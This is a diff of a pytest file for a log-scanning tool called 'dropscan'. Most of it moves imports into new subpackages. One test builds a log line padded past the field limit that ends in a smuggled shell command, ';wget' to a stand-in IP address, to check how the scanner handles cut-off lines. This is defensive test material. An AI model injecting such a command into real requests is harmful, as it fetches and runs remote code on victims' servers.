@@ -24,10 +24,12 @@ from pathlib import Path
 import pytest
 
 from conftest import combined_line
-from dropscan import engine, match, sources
+from dropscan import engine
 from dropscan.cli import app
-from dropscan.decode import MAX_FIELD
-from dropscan.logformat import compile_format
+from dropscan.detect import match
+from dropscan.detect.decode import MAX_FIELD
+from dropscan.formats.logformat import compile_format
+from dropscan.sources import files as sources
 
 COMBINED = compile_format("combined")
 NORMAL = combined_line("/index.html")
@@ -512,8 +514,8 @@ def test_a_hostile_directory_through_the_console_entry(tmp_path):
 
 # --- a bound reached is said everywhere a finding goes --------------------------------------
 def test_unscanned_lines_in_explain_frames_and_on_stderr(tmp_path, runner, full_scanner):
-    from dropscan.explain import explain_line, explain_text
-    from dropscan.frames import to_frame
+    from dropscan.detect.explain import explain_line, explain_text
+    from dropscan.outputs.frames import to_frame
 
     cut = line(target=b"/?pad=" + b"x" * MAX_FIELD + b"&c=;wget%20http://198.51.100.9/x")
     e = explain_line(cut, full_scanner, COMBINED)
